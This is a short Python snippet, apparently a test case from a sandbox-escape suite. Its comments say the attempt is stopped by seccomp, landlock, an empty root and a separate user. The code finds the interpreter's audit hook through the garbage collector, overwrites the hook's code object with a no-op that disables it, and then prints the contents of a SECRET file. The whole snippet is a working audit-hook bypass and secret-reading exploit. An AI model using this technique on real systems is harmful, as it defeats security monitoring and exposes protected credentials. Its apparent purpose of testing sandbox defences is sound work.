# Replaces the code of the audit hook.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user
# with: graph
gc = importer.load_module('gc')
for value in gc.get_objects():
    if getattr(value, '__name__', '') == 'hook' and hasattr(value, '__code__'):
        names = value.__code__.co_freevars
        source = 'def outer(%s):\n def hook(event, arguments):\n  return\n  %s\n return hook\n' % (', '.join(names), ', '.join(names))
        scope = {}
        exec(source, scope)
        value.__code__ = scope['outer'](*names).__code__
print(open(SECRET).read())
